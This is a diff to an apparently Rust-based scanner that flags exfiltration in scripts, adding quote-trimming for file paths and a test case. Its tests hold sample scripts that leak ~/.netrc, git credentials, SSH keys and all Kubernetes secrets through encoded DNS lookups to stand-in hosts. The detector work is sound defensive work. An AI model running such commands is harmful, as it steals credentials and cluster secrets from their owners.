@@ -1302,10 +1302,12 @@ impl Flow<'_> {
             self.tainted.insert(name.to_owned(), (kinds, number));
         }
         // Expansion shows what a variable holds; the file is named by the variable too.
+        // As written, a path keeps its quotes (`> "$work/s.json"`).
         for word in written_files(&line.expanded)
             .into_iter()
             .chain(written_files(raw))
         {
+            let word = word.trim_matches(['"', '\'']);
             self.files
                 .insert(basename(word).to_owned(), (kinds, number));
         }
@@ -1725,6 +1727,9 @@ mod tests {
         // Credential files hex-encoded into the names a script looks up.
         let dns = "HINTS = [\"~/.netrc\", \"~/.git-credentials\"]\nfor label in chunks(read(HINTS)):\n    socket.getaddrinfo(f\"{label}.probe.bench.example\", 443)\n";
         assert_eq!(codes("scripts/dnscheck.py", dns), ["SK908"]);
+        // Secrets a cluster holds, read with kubectl, leave in the names looked up.
+        let k8s = "w=$(mktemp -d)\nkubectl get secrets -A -o json > \"$w/s.json\"\nblob=$(gzip -c \"$w/s.json\" | base32 -w0)\nnslookup \"${blob:0:60}.probe.k8s.example\"\n";
+        assert_eq!(codes("scripts/inventory.sh", k8s), ["SK908"]);
         let glob =
             "for f in ~/.ssh/*; do nslookup \"$(xxd -p \"$f\" | head -c 60).z.example\"; done\n";
         assert_eq!(codes("scripts/probe.sh", glob), ["SK908"]);
